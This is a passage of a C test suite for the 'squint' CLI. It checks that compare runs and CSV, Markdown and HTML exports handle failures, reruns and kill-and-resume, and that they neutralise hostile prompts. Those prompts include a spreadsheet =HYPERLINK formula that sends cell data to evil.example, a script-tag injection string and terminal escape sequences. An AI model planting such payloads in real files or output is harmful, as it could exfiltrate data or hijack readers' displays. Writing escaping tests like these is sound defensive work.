/* test-cli-grid.c
 *
 * `squint compare` and `squint export`, the real executable (SQUINT_EXE)
 * against a `fake-replicate` process (FAKE_REPLICATE_EXE): the whole grid
 * exported in every format and parsed back, a kill -9 in the middle of a
 * grid and the run that resumes it, a failing cell, --rerun, Ctrl+C, and
 * injection strings in prompts.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <gdk-pixbuf/gdk-pixbuf.h>
#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <signal.h>
#include <string.h>

#include "sq-exporter.h"
#include "sq-project.h"
#include "sq-fake-replicate.h"
#include "sq-test-util.h"

#define N_IMAGES 3


/* What a spreadsheet, a Markdown renderer and a browser must not run. */
#define PROMPT_FORMULA  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
#define PROMPT_SCRIPT   "<script>alert('x')</script> what is <b>this</b>?"
#define PROMPT_PIPE     "left | right, \"quoted\", *bold* and [link](http://x)"

typedef struct
{
  GSubprocess     *fake;
  char            *origin;
  char            *requests_log;
  SqFakeReplicate *oracle;        /* only for sq_fake_replicate_expected_answer() */
  char            *tmpdir;
  char            *project;
  char            *images[N_IMAGES];
  char            *shas[N_IMAGES];
} Fixture;

static char *keyring_path;

typedef SqTestRun Run;
G_DEFINE_AUTOPTR_CLEANUP_FUNC (Run, sq_test_run_free)

static char *
write_png (const char *dir,
           const char *name,
           int         size,
           guint8      tint)
{
  g_autoptr(GdkPixbuf) pixbuf = gdk_pixbuf_new (GDK_COLORSPACE_RGB, FALSE, 8, size, size);
  g_autoptr(GError) error = NULL;
  char *path = g_build_filename (dir, name, NULL);

  gdk_pixbuf_fill (pixbuf, 0x20406000 | ((guint32) tint << 24));
  gdk_pixbuf_save (pixbuf, path, "png", &error, NULL);
  g_assert_no_error (error);

  return path;
}

static void
fixture_setup (Fixture       *fixture,
               gconstpointer  data)
{
  const char * const *args = data;
  g_autoptr(GError) error = NULL;

  fixture->oracle = sq_fake_replicate_new ();
  fixture->tmpdir = g_dir_make_tmp ("squint-test-cli-grid-XXXXXX", &error);
  g_assert_no_error (error);
  fixture->requests_log = g_build_filename (fixture->tmpdir, "requests.jsonl", NULL);
  fixture->project = g_build_filename (fixture->tmpdir, "grid.squint", NULL);

  for (guint i = 0; i < N_IMAGES; i++)
    {
      g_autofree char *name = g_strdup_printf ("photo-%u.png", i);

      fixture->images[i] = write_png (fixture->tmpdir, name, 32 + 8 * i, 50 * (i + 1));
      fixture->shas[i] = sq_test_file_sha256 (fixture->images[i]);
    }

  fixture->fake = sq_test_spawn_fake_replicate (fixture->requests_log, args, &fixture->origin);
}

static void
fixture_teardown (Fixture       *fixture,
                  gconstpointer  data)
{
  sq_test_stop_process (&fixture->fake);
  sq_test_remove_tree (fixture->tmpdir);
  g_clear_object (&fixture->oracle);
  g_free (fixture->origin);
  g_free (fixture->requests_log);
  g_free (fixture->tmpdir);
  g_free (fixture->project);
  for (guint i = 0; i < N_IMAGES; i++)
    {
      g_free (fixture->images[i]);
      g_free (fixture->shas[i]);
    }
}

/* Requests */

static GPtrArray *
dup_requests (Fixture *fixture)
{
  return sq_test_read_requests_log (fixture->requests_log);
}

/* Successful prediction creates among requests[from..]. */
static guint
count_creates (GPtrArray *requests,
               guint      from)
{
  guint n = 0;

  for (guint i = from; i < requests->len; i++)
    {
      JsonObject *request = g_ptr_array_index (requests, i);

      if (g_str_equal (json_object_get_string_member (request, "method"), "POST") &&
          g_str_equal (json_object_get_string_member (request, "path"), "/v1/predictions") &&
          json_object_get_int_member (request, "status") == 201)
        n++;
    }

  return n;
}

static guint
count_path (GPtrArray  *requests,
            guint       from,
            const char *method,
            const char *path)
{
  guint n = 0;

  for (guint i = from; i < requests->len; i++)
    {
      JsonObject *request = g_ptr_array_index (requests, i);

      if (g_str_equal (json_object_get_string_member (request, "method"), method) &&
          g_str_equal (json_object_get_string_member (request, "path"), path))
        n++;
    }

  return n;
}

/* Running squint */

static char **
make_env (Fixture *fixture)
{
  return sq_test_squint_environ (fixture->tmpdir, fixture->origin, SQ_FAKE_REPLICATE_TOKEN,
                                 "memory", keyring_path);
}

static GSubprocess *
spawn_squint (Fixture            *fixture,
              const char * const *args)
{
  g_auto(GStrv) env = make_env (fixture);

  return sq_test_spawn_squint ((const char * const *) env, args);
}

static void
assert_clean (const char *out,
              const char *err)
{
  g_assert_null (strstr (err, "CRITICAL"));
  g_assert_null (strstr (err, "WARNING"));
  g_assert_null (strstr (out, SQ_FAKE_REPLICATE_TOKEN));
  g_assert_null (strstr (err, SQ_FAKE_REPLICATE_TOKEN));
}

static Run *
run_argv (Fixture            *fixture,
          const char * const *args)
{
  g_auto(GStrv) env = make_env (fixture);
  Run *run = sq_test_run_squint ((const char * const *) env, args);

  g_test_message ("squint %s exited with %d\nstdout:\n%s\nstderr (tail):\n%s", args[0], run->status,
                  run->out, strlen (run->err) > 4000 ? run->err + strlen (run->err) - 4000 : run->err);
  assert_clean (run->out, run->err);

  return run;
}

static Run *
run_squint (Fixture *fixture,
            ...)
{
  g_autoptr(GPtrArray) args = g_ptr_array_new ();
  const char *arg;
  va_list ap;

  va_start (ap, fixture);
  while ((arg = va_arg (ap, const char *)) != NULL)
    g_ptr_array_add (args, (char *) arg);
  va_end (ap);
  g_ptr_array_add (args, NULL);

  return run_argv (fixture, (const char * const *) args->pdata);
}

/* compare args for @prompts × the first @n_images × the first @n_models, then @extra. */
static GPtrArray *
compare_args (Fixture            *fixture,
              const char * const *prompts,
              guint               n_images,
              guint               n_models,
              const char * const *extra)
{
  GPtrArray *args = g_ptr_array_new ();

  g_ptr_array_add (args, (char *) "compare");
  for (guint m = 0; m < n_models; m++)
    {
      g_ptr_array_add (args, (char *) "-m");
      g_ptr_array_add (args, (char *) sq_test_model_names[m]);
    }
  for (guint i = 0; i < n_images; i++)
    {
      g_ptr_array_add (args, (char *) "-i");
      g_ptr_array_add (args, fixture->images[i]);
    }
  for (guint p = 0; prompts[p] != NULL; p++)
    {
      g_ptr_array_add (args, (char *) "-q");
      g_ptr_array_add (args, (char *) prompts[p]);
    }
  g_ptr_array_add (args, (char *) "--project");
  g_ptr_array_add (args, fixture->project);
  for (guint e = 0; extra != NULL && extra[e] != NULL; e++)
    g_ptr_array_add (args, (char *) extra[e]);
  g_ptr_array_add (args, NULL);

  return args;
}

static char *
expected_for (Fixture    *fixture,
              const char *model_name,
              const char *sha,
              const char *prompt)
{
  return sq_fake_replicate_expected_answer (fixture->oracle, sq_test_model_ref_for (model_name), sha, prompt);
}

static guint
count_lines_with_prefix (const char *text,
                         const char *prefix)
{
  g_auto(GStrv) lines = g_strsplit (text, "\n", -1);
  guint n = 0;

  for (guint i = 0; lines[i] != NULL; i++)
    n += g_str_has_prefix (lines[i], prefix);

  return n;
}

/* Parsers for the exports */

/* RFC 4180: rows of fields (element-type GStrv). */
static GPtrArray *
parse_csv (const char *text)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  g_autoptr(GStrvBuilder) row = g_strv_builder_new ();
  g_autoptr(GString) field = g_string_new (NULL);
  const char *p = text;
  gboolean quoted = FALSE, any = FALSE;

  while (*p != '\0')
    {
      if (quoted)
        {
          if (p[0] == '"' && p[1] == '"')
            {
              g_string_append_c (field, '"');
              p += 2;
            }
          else if (p[0] == '"')
            {
              quoted = FALSE;
              p++;
            }
          else
            g_string_append_c (field, *p++);
          continue;
        }

      if (*p == '"')
        {
          g_assert_cmpuint (field->len, ==, 0);
          quoted = TRUE;
          any = TRUE;
          p++;
        }
      else if (*p == ',')
        {
          g_strv_builder_add (row, field->str);
          g_string_truncate (field, 0);
          p++;
        }
      else if (p[0] == '\r' && p[1] == '\n')
        {
          g_strv_builder_add (row, field->str);
          g_string_truncate (field, 0);
          g_ptr_array_add (rows, g_strv_builder_end (row));
          g_clear_pointer (&row, g_strv_builder_unref);
          row = g_strv_builder_new ();
          any = FALSE;
          p += 2;
        }
      else
        {
          /* A bare LF outside quotes is not RFC 4180. */
          g_assert_cmpint (*p, !=, '\n');
          g_string_append_c (field, *p++);
          any = TRUE;
        }
    }
  g_assert_false (quoted);
  g_assert_false (any);

  return rows;
}

static int
column_index (char       **header,
              const char  *name)
{
  for (int i = 0; header[i] != NULL; i++)
    {
      if (g_str_equal (header[i], name))
        return i;
    }

  g_assert_not_reached ();
}

/* One Markdown table row into its cells, undoing the exporter's escapes:
 * \X is X, <br> a newline, &lt; &gt; &amp; their characters. */
static GStrv
parse_markdown_row (const char *line)
{
  g_autoptr(GStrvBuilder) cells = g_strv_builder_new ();
  g_autoptr(GString) cell = g_string_new (NULL);
  const char *p = line;

  g_assert_true (g_str_has_prefix (p, "| "));
  p += 2;
  while (*p != '\0')
    {
      if (p[0] == '\\' && p[1] != '\0')
        {
          g_string_append_c (cell, p[1]);
          p += 2;
        }
      else if (g_str_has_prefix (p, " |"))
        {
          g_strv_builder_add (cells, cell->str);
          g_string_truncate (cell, 0);
          p += 2;
          if (*p == ' ')
            p++;
        }
      else if (g_str_has_prefix (p, "<br>"))
        {
          g_string_append_c (cell, '\n');
          p += 4;
        }
      else if (g_str_has_prefix (p, "&lt;"))
        {
          g_string_append_c (cell, '<');
          p += 4;
        }
      else if (g_str_has_prefix (p, "&gt;"))
        {
          g_string_append_c (cell, '>');
          p += 4;
        }
      else if (g_str_has_prefix (p, "&amp;"))
        {
          g_string_append_c (cell, '&');
          p += 5;
        }
      else
        {
          /* Nothing raw that HTML or a table would read. */
          g_assert_cmpint (*p, !=, '<');
          g_assert_cmpint (*p, !=, '|');
          g_string_append_c (cell, *p++);
        }
    }

  return g_strv_builder_end (cells);
}

static GPtrArray *
load_json_array (const char *text)
{
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  GPtrArray *objects = g_ptr_array_new_with_free_func ((GDestroyNotify) json_object_unref);
  JsonArray *array;

  json_parser_load_from_data (parser, text, -1, &error);
  g_assert_no_error (error);
  g_assert_true (JSON_NODE_HOLDS_ARRAY (json_parser_get_root (parser)));
  array = json_node_get_array (json_parser_get_root (parser));
  for (guint i = 0; i < json_array_get_length (array); i++)
    g_ptr_array_add (objects, json_object_ref (json_array_get_object_element (array, i)));

  return objects;
}

static GPtrArray *
load_json_lines (const char *text)
{
  GPtrArray *objects = g_ptr_array_new_with_free_func ((GDestroyNotify) json_object_unref);
  g_auto(GStrv) lines = g_strsplit (text, "\n", -1);

  for (guint i = 0; lines[i] != NULL; i++)
    {
      g_autoptr(JsonParser) parser = json_parser_new ();
      g_autoptr(GError) error = NULL;

      if (lines[i][0] == '\0')
        continue;
      json_parser_load_from_data (parser, lines[i], -1, &error);
      g_assert_no_error (error);
      g_ptr_array_add (objects, json_object_ref (json_node_get_object (json_parser_get_root (parser))));
    }

  return objects;
}

/* Checks JSON results: @n of them, each with its own answer. */
static void
assert_json_results (Fixture   *fixture,
                     GPtrArray *objects,
                     guint      n)
{
  g_assert_cmpuint (objects->len, ==, n);
  for (guint i = 0; i < objects->len; i++)
    {
      JsonObject *object = g_ptr_array_index (objects, i);
      g_autofree char *expected = expected_for (fixture,
                                                json_object_get_string_member (object, "model"),
                                                json_object_get_string_member (object, "image_sha256"),
                                                json_object_get_string_member (object, "prompt"));

      g_assert_cmpstr (json_object_get_string_member (object, "status"), ==, "succeeded");
      g_assert_cmpstr (json_object_get_string_member (object, "response"), ==, expected);
      g_assert_true (json_object_get_null_member (object, "correctness"));
      g_assert_true (json_object_get_null_member (object, "relevance"));
    }
}

static const char *
sha_for_image_name (Fixture    *fixture,
                    const char *name)
{
  for (guint i = 0; i < N_IMAGES; i++)
    {
      g_autofree char *base = g_path_get_basename (fixture->images[i]);

      if (g_str_equal (base, name))
        return fixture->shas[i];
    }

  g_assert_not_reached ();
}

/* Tests */

static void
test_full_grid_exports (Fixture       *fixture,
                        gconstpointer  data)
{
  const char *prompts[] = { "What is shown?", PROMPT_FORMULA, PROMPT_SCRIPT, NULL };
  const char *jobs[] = { "-j", "6", NULL };
  g_autoptr(GPtrArray) args = compare_args (fixture, prompts, 3, 4, jobs);
  g_autoptr(Run) run = run_argv (fixture, (const char * const *) args->pdata);
  g_autoptr(GPtrArray) requests = dup_requests (fixture);

  g_assert_cmpint (run->status, ==, 0);
  /* Not a terminal: one line per cell, then the summary. */
  g_assert_cmpuint (count_lines_with_prefix (run->out, "["), ==, 36);
  g_assert_nonnull (strstr (run->out, "36 cells: 36 succeeded, 0 failed, 0 canceled"));
  g_assert_null (strchr (run->out, '\r'));
  g_assert_cmpuint (count_creates (requests, 0), ==, 36);
  /* As with squint ask, the aliases come from their built-in schemas. */
  for (guint i = 0; i < requests->len; i++)
    g_assert_false (g_str_has_prefix (json_object_get_string_member (g_ptr_array_index (requests, i), "path"),
                                      "/v1/models/"));

  /* JSON and JSON Lines. */
  {
    g_autoptr(Run) json = run_squint (fixture, "export", fixture->project, "-f", "json", NULL);
    g_autoptr(Run) jsonl = run_squint (fixture, "export", fixture->project, "-f", "jsonl", NULL);
    g_autoptr(GPtrArray) objects = NULL;
    g_autoptr(GPtrArray) lines = NULL;

    g_assert_cmpint (json->status, ==, 0);
    g_assert_cmpint (jsonl->status, ==, 0);
    objects = load_json_array (json->out);
    lines = load_json_lines (jsonl->out);
    assert_json_results (fixture, objects, 36);
    assert_json_results (fixture, lines, 36);
    /* JSON carries the text exactly. */
    g_assert_nonnull (strstr (json->out, "\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")\""));
  }

  /* CSV, from stdout and written with -o (the same bytes). */
  {
    g_autoptr(Run) csv = run_squint (fixture, "export", fixture->project, "-f", "csv", NULL);
    g_autofree char *out_path = g_build_filename (fixture->tmpdir, "out.csv", NULL);
    g_autoptr(Run) to_file = run_squint (fixture, "export", fixture->project, "-o", out_path, NULL);
    g_autofree char *file_contents = NULL;
    g_autoptr(GPtrArray) rows = NULL;
    char **header;
    int c_model, c_prompt, c_sha, c_response, c_status, c_correctness;
    guint n_formula = 0;

    g_assert_cmpint (csv->status, ==, 0);
    g_assert_cmpint (to_file->status, ==, 0);
    g_assert_cmpstr (to_file->out, ==, "");
    g_assert_true (g_file_get_contents (out_path, &file_contents, NULL, NULL));
    g_assert_cmpstr (file_contents, ==, csv->out);

    rows = parse_csv (csv->out);
    g_assert_cmpuint (rows->len, ==, 37);
    header = g_ptr_array_index (rows, 0);
    c_model = column_index (header, "model");
    c_prompt = column_index (header, "prompt");
    c_sha = column_index (header, "image_sha256");
    c_response = column_index (header, "response");
    c_status = column_index (header, "status");
    c_correctness = column_index (header, "correctness");
    column_index (header, "model_ref");
    column_index (header, "prediction_id");
    column_index (header, "ttft_ms");

    for (guint r = 1; r < rows->len; r++)
      {
        char **row = g_ptr_array_index (rows, r);
        const char *prompt = row[c_prompt];
        g_autofree char *expected = NULL;

        /* The formula is neutralised for spreadsheets. */
        g_assert_false (g_str_has_prefix (prompt, "="));
        if (g_str_has_prefix (prompt, "'="))
          {
            g_assert_cmpstr (prompt + 1, ==, PROMPT_FORMULA);
            prompt++;
            n_formula++;
          }

        expected = expected_for (fixture, row[c_model], row[c_sha], prompt);
        g_assert_cmpstr (row[c_response], ==, expected);
        g_assert_cmpstr (row[c_status], ==, "succeeded");
        g_assert_cmpstr (row[c_correctness], ==, "");
      }
    g_assert_cmpuint (n_formula, ==, 12);
  }

  /* Markdown: 36 rows, every answer, nothing raw. */
  {
    g_autoptr(Run) md = run_squint (fixture, "export", fixture->project, "-f", "md", NULL);
    g_auto(GStrv) lines = g_strsplit (md->out, "\n", -1);
    guint n_rows = 0;
    gboolean header_seen = FALSE;

    g_assert_cmpint (md->status, ==, 0);
    g_assert_null (strstr (md->out, "<script"));
    g_assert_null (strstr (md->out, "<b>"));
    for (guint i = 0; lines[i] != NULL; i++)
      {
        g_auto(GStrv) cells = NULL;
        g_autofree char *expected = NULL;

        if (!g_str_has_prefix (lines[i], "| ") || g_str_has_prefix (lines[i], "| ---"))
          continue;
        cells = parse_markdown_row (lines[i]);
        g_assert_cmpuint (g_strv_length (cells), ==, 9);
        if (!header_seen)
          {
            g_assert_cmpstr (cells[0], ==, "model");
            g_assert_cmpstr (cells[3], ==, "response");
            header_seen = TRUE;
            continue;
          }

        expected = expected_for (fixture, cells[0], sha_for_image_name (fixture, cells[2]), cells[1]);
        g_assert_cmpstr (cells[3], ==, expected);
        g_assert_cmpstr (cells[4], ==, "succeeded");
        n_rows++;
      }
    g_assert_cmpuint (n_rows, ==, 36);
  }

  /* HTML: escaped, no script, every answer in its own row. */
  {
    g_autoptr(Run) html = run_squint (fixture, "export", fixture->project, "-f", "html", NULL);
    g_autoptr(Run) json = run_squint (fixture, "export", fixture->project, "-f", "json", NULL);
    g_autoptr(GPtrArray) objects = load_json_array (json->out);

    g_assert_cmpint (html->status, ==, 0);
    g_assert_true (g_str_has_prefix (html->out, "<!DOCTYPE html>") || g_str_has_prefix (html->out, "<!doctype html>"));
    g_assert_null (strstr (html->out, "<script"));
    g_assert_null (strstr (html->out, "<b>"));
    g_assert_nonnull (strstr (html->out, "&lt;script&gt;"));
    for (guint i = 0; i < objects->len; i++)
      {
        JsonObject *object = g_ptr_array_index (objects, i);
        g_autofree char *escaped = sq_exporter_html_escape (json_object_get_string_member (object, "response"));

        g_assert_nonnull (strstr (html->out, escaped));
      }
  }

  /* Run again: nothing left to do, nothing created. */
  {
    g_autoptr(Run) again = run_argv (fixture, (const char * const *) args->pdata);
    g_autoptr(GPtrArray) after = dup_requests (fixture);

    g_assert_cmpint (again->status, ==, 0);
    g_assert_nonnull (strstr (again->out, "Nothing to run"));
    g_assert_cmpuint (count_creates (after, 0), ==, 36);
  }
}

static void
test_export_errors (Fixture       *fixture,
                    gconstpointer  data)
{
  g_autofree char *missing = g_build_filename (fixture->tmpdir, "missing.squint", NULL);
  g_autofree char *corrupt = g_build_filename (fixture->tmpdir, "corrupt.squint", NULL);
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;
  g_autoptr(Run) run_missing = NULL;
  g_autoptr(Run) run_corrupt = NULL;
  g_autoptr(Run) run_format = NULL;
  g_autoptr(Run) run_none = NULL;

  g_assert_true (g_file_set_contents (corrupt, "SQLite format 3\0 but not really a database at all", 48, NULL));
  before = sq_test_file_sha256 (corrupt);

  run_missing = run_squint (fixture, "export", missing, NULL);
  g_assert_cmpint (run_missing->status, ==, 2);
  g_assert_nonnull (strstr (run_missing->err, "missing.squint"));
  /* Not created by looking. */
  g_assert_false (g_file_test (missing, G_FILE_TEST_EXISTS));

  run_corrupt = run_squint (fixture, "export", corrupt, "-f", "json", NULL);
  g_assert_cmpint (run_corrupt->status, ==, 3);
  g_assert_nonnull (strstr (run_corrupt->err, "corrupt.squint"));
  g_assert_cmpstr (run_corrupt->out, ==, "");
  after = sq_test_file_sha256 (corrupt);
  g_assert_cmpstr (before, ==, after);

  run_format = run_squint (fixture, "export", corrupt, "-f", "xlsx", NULL);
  g_assert_cmpint (run_format->status, ==, 2);

  run_none = run_squint (fixture, "export", NULL);
  g_assert_cmpint (run_none->status, ==, 2);
}

static void
test_compare_usage (Fixture       *fixture,
                    gconstpointer  data)
{
  g_autoptr(Run) no_project = run_squint (fixture, "compare", "-m", "llava-13b", "-i", fixture->images[0],
                                          "-q", "hi", NULL);
  g_autoptr(Run) no_prompt = run_squint (fixture, "compare", "-m", "llava-13b", "-i", fixture->images[0],
                                         "--project", fixture->project, NULL);
  g_autoptr(Run) bad_model = run_squint (fixture, "compare", "-m", "not a model", "-i", fixture->images[0],
                                         "-q", "hi", "--project", fixture->project, NULL);
  g_autoptr(Run) bad_param = run_squint (fixture, "compare", "-m", "llava-13b", "-i", fixture->images[0],
                                         "-q", "hi", "-p", "top_p=9", "--project", fixture->project, NULL);
  g_autoptr(Run) bad_jobs = run_squint (fixture, "compare", "-m", "llava-13b", "-i", fixture->images[0],
                                        "-q", "hi", "-j", "0", "--project", fixture->project, NULL);
  g_autoptr(Run) help = run_squint (fixture, "help", NULL);
  g_autoptr(Run) compare_help = run_squint (fixture, "compare", "--help", NULL);
  g_autoptr(GPtrArray) requests = dup_requests (fixture);

  g_assert_cmpint (no_project->status, ==, 2);
  g_assert_cmpint (no_prompt->status, ==, 2);
  g_assert_cmpint (bad_model->status, ==, 2);
  g_assert_cmpint (bad_param->status, ==, 2);
  g_assert_cmpint (bad_jobs->status, ==, 2);
  g_assert_cmpuint (count_creates (requests, 0), ==, 0);

  g_assert_cmpint (help->status, ==, 0);
  g_assert_nonnull (strstr (help->out, "squint compare"));
  g_assert_nonnull (strstr (help->out, "squint export"));
  g_assert_cmpint (compare_help->status, ==, 0);
  g_assert_nonnull (strstr (compare_help->out, "--rerun"));
  g_assert_nonnull (strstr (compare_help->out, "--jobs"));
}

static void
test_failing_cell_and_rerun (Fixture       *fixture,
                             gconstpointer  data)
{
  const char *prompts[] = { "a good question", "[[fail]] a bad one", NULL };
  const char *rerun[] = { "--rerun", NULL };
  g_autoptr(GPtrArray) args = compare_args (fixture, prompts, 2, 2, NULL);
  g_autoptr(GPtrArray) rerun_args = compare_args (fixture, prompts, 2, 2, rerun);
  g_autoptr(Run) run = run_argv (fixture, (const char * const *) args->pdata);
  g_autoptr(Run) again = NULL;
  g_autoptr(Run) rerun_run = NULL;
  g_autoptr(Run) json = NULL;
  g_autoptr(GPtrArray) objects = NULL;
  g_autoptr(GPtrArray) requests = NULL;
  guint before;

  /* A failing cell stops nothing; the exit status says some failed. */
  g_assert_cmpint (run->status, ==, 1);
  g_assert_nonnull (strstr (run->out, "8 cells: 4 succeeded, 4 failed"));
  g_assert_nonnull (strstr (run->err, "failed"));

  /* Again: only the 4 failed cells run (and fail again). */
  requests = dup_requests (fixture);
  before = requests->len;
  g_assert_cmpuint (count_creates (requests, 0), ==, 8);
  g_clear_pointer (&requests, g_ptr_array_unref);
  again = run_argv (fixture, (const char * const *) args->pdata);
  g_assert_cmpint (again->status, ==, 1);
  g_assert_nonnull (strstr (again->out, "4 cells: 0 succeeded, 4 failed"));
  requests = dup_requests (fixture);
  g_assert_cmpuint (count_creates (requests, before), ==, 4);

  /* --rerun: a new run of all 8. */
  rerun_run = run_argv (fixture, (const char * const *) rerun_args->pdata);
  g_assert_cmpint (rerun_run->status, ==, 1);
  g_assert_nonnull (strstr (rerun_run->out, "8 cells: 4 succeeded, 4 failed"));

  json = run_squint (fixture, "export", fixture->project, "-f", "json", NULL);
  objects = load_json_array (json->out);
  g_assert_cmpuint (objects->len, ==, 16);
  for (guint i = 0; i < objects->len; i++)
    {
      JsonObject *object = g_ptr_array_index (objects, i);
      const char *prompt = json_object_get_string_member (object, "prompt");

      if (g_str_has_prefix (prompt, "[[fail]]"))
        {
          g_assert_cmpstr (json_object_get_string_member (object, "status"), ==, "failed");
          g_assert_false (json_object_get_null_member (object, "error"));
        }
      else
        {
          g_autofree char *expected = expected_for (fixture, json_object_get_string_member (object, "model"),
                                                    json_object_get_string_member (object, "image_sha256"),
                                                    prompt);

          g_assert_cmpstr (json_object_get_string_member (object, "status"), ==, "succeeded");
          g_assert_cmpstr (json_object_get_string_member (object, "response"), ==, expected);
        }
    }
}

static void
test_terminal_escapes (Fixture       *fixture,
                       gconstpointer  data)
{
  const char *prompts[] = { "\033]0;owned\007\033[31mred\nsecond line\r", "[[fail]] \033[2J", NULL };
  g_autoptr(GPtrArray) args = compare_args (fixture, prompts, 1, 1, NULL);
  g_autoptr(Run) run = run_argv (fixture, (const char * const *) args->pdata);
  g_autoptr(Run) json = NULL;
  g_autoptr(GPtrArray) objects = NULL;
  g_autofree char *err_tail = NULL;

  g_assert_cmpint (run->status, ==, 1);
  /* Prompts reach the terminal without their control characters, one line per cell. */
  g_assert_null (strchr (run->out, '\033'));
  g_assert_null (strchr (run->out, '\r'));
  g_assert_cmpuint (count_lines_with_prefix (run->out, "["), ==, 2);
  g_assert_nonnull (strstr (run->out, "red second line"));
  /* The failure report too (the log lines before it are squint's own debug output). */
  err_tail = g_strdup (strstr (run->err, "llava-13b on "));
  g_assert_nonnull (err_tail);
  *strchr (err_tail, '\n') = '\0';
  g_assert_null (strchr (err_tail, '\033'));

  /* The project keeps them exactly. */
  json = run_squint (fixture, "export", fixture->project, "-f", "json", NULL);
  objects = load_json_array (json->out);
  g_assert_cmpuint (objects->len, ==, 2);
  g_assert_cmpstr (json_object_get_string_member (g_ptr_array_index (objects, 0), "prompt"), ==, prompts[0]);
}

typedef struct
{
  gint64  id;
  char   *status;
  char   *response;
  char   *prediction_id;
} RowSnapshot;

static void
row_snapshot_free (RowSnapshot *row)
{
  g_free (row->status);
  g_free (row->response);
  g_free (row->prediction_id);
  g_free (row);
}

static GPtrArray *
snapshot_rows (const char *path)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(SqProject) project = sq_project_open (path, &error);
  g_autoptr(GPtrArray) results = NULL;
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) row_snapshot_free);

  g_assert_no_error (error);
  results = sq_project_list_results (project, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < results->len; i++)
    {
      SqResult *result = g_ptr_array_index (results, i);
      RowSnapshot *row = g_new0 (RowSnapshot, 1);

      row->id = sq_result_get_id (result);
      row->status = g_strdup (sq_result_get_status (result));
      row->response = g_strdup (sq_result_get_response (result));
      row->prediction_id = g_strdup (sq_result_get_prediction_id (result));
      g_ptr_array_add (rows, row);
    }

  return rows;
}

static void
test_kill_and_resume (Fixture       *fixture,
                      gconstpointer  data)
{
  const char *prompts[] = { "first question", "second question", NULL };
  const char *jobs[] = { "-j", "3", NULL };
  g_autoptr(GPtrArray) args = compare_args (fixture, prompts, 3, 2, jobs);
  g_autoptr(GSubprocess) process = NULL;
  g_autoptr(GDataInputStream) out = NULL;
  g_autoptr(GPtrArray) at_kill = NULL;
  g_autoptr(GPtrArray) requests = NULL;
  g_autoptr(GPtrArray) final_rows = NULL;
  g_autoptr(GPtrArray) in_flight = g_ptr_array_new ();   /* (element-type RowSnapshot) unowned */
  g_autoptr(GError) error = NULL;
  g_autoptr(Run) resume = NULL;
  guint n_finished_lines = 0, n_succeeded = 0, n_queued = 0;
  guint before;

  /* 12 cells of about 0.6 s each, three at a time. */
  process = spawn_squint (fixture, (const char * const *) args->pdata);
  out = g_data_input_stream_new (g_subprocess_get_stdout_pipe (process));
  while (n_finished_lines < 4)
    {
      g_autofree char *line = g_data_input_stream_read_line_utf8 (out, NULL, NULL, &error);

      g_assert_no_error (error);
      g_assert_nonnull (line);
      n_finished_lines += g_str_has_prefix (line, "[");
    }

  /* Really kill it, in the middle of the grid. */
  g_subprocess_force_exit (process);
  g_subprocess_wait (process, NULL, &error);
  g_assert_no_error (error);
  g_assert_true (g_subprocess_get_if_signaled (process));
  g_assert_cmpint (g_subprocess_get_term_sig (process), ==, SIGKILL);

  /* Every answer reported finished is intact; the rest is in flight or queued. */
  at_kill = snapshot_rows (fixture->project);
  g_assert_cmpuint (at_kill->len, ==, 12);
  for (guint i = 0; i < at_kill->len; i++)
    {
      RowSnapshot *row = g_ptr_array_index (at_kill, i);

      if (g_str_equal (row->status, "succeeded"))
        n_succeeded++;
      else if (row->prediction_id != NULL)
        {
          g_assert_true (g_str_equal (row->status, "starting") || g_str_equal (row->status, "processing"));
          g_ptr_array_add (in_flight, row);
        }
      else
        {
          g_assert_cmpstr (row->status, ==, "queued");
          n_queued++;
        }
    }
  g_assert_cmpuint (n_succeeded, >=, 4);
  g_assert_cmpuint (in_flight->len, >=, 1);
  g_test_message ("At the kill: %u succeeded, %u in flight, %u queued", n_succeeded, in_flight->len, n_queued);

  /* A person rates and annotates the finished answers before the next run. */
  {
    g_autoptr(SqProject) project = sq_project_open (fixture->project, &error);

    g_assert_no_error (error);
    for (guint i = 0; i < at_kill->len; i++)
      {
        RowSnapshot *row = g_ptr_array_index (at_kill, i);

        if (!g_str_equal (row->status, "succeeded"))
          continue;
        sq_project_set_rating (project, row->id, SQ_CRITERION_CORRECTNESS, 4, NULL, &error);
        g_assert_no_error (error);
        sq_project_set_note (project, row->id, "checked by hand", NULL, &error);
        g_assert_no_error (error);
      }
  }

  requests = dup_requests (fixture);
  before = requests->len;
  g_clear_pointer (&requests, g_ptr_array_unref);

  resume = run_argv (fixture, (const char * const *) args->pdata);
  g_assert_cmpint (resume->status, ==, 0);

  /* Only the unfinished cells ran: the queued ones were created, the ones in
   * flight were picked up by their id and never created again. */
  requests = dup_requests (fixture);
  g_assert_cmpuint (count_creates (requests, before), ==, n_queued);
  for (guint i = 0; i < in_flight->len; i++)
    {
      RowSnapshot *row = g_ptr_array_index (in_flight, i);
      g_autofree char *path = g_strconcat ("/v1/predictions/", row->prediction_id, NULL);

      g_assert_cmpuint (count_path (requests, before, "GET", path), >=, 1);
    }

  final_rows = snapshot_rows (fixture->project);
  g_assert_cmpuint (final_rows->len, ==, 12);
  {
    g_autoptr(SqProject) project = sq_project_open (fixture->project, &error);

    g_assert_no_error (error);
    for (guint i = 0; i < final_rows->len; i++)
      {
        RowSnapshot *row = g_ptr_array_index (final_rows, i);
        RowSnapshot *before_row = g_ptr_array_index (at_kill, i);
        g_autoptr(SqResult) result = sq_project_get_result (project, row->id, &error);
        g_autofree char *expected = NULL;
        g_autofree char *note = NULL;

        g_assert_no_error (error);
        g_assert_cmpint (row->id, ==, before_row->id);
        g_assert_cmpstr (row->status, ==, "succeeded");
        expected = expected_for (fixture, sq_result_get_model_name (result),
                                 sq_result_get_image_sha256 (result), sq_result_get_prompt (result));
        g_assert_cmpstr (row->response, ==, expected);

        if (before_row->prediction_id != NULL)
          /* Finished and in-flight cells keep their prediction: paid once. */
          g_assert_cmpstr (row->prediction_id, ==, before_row->prediction_id);

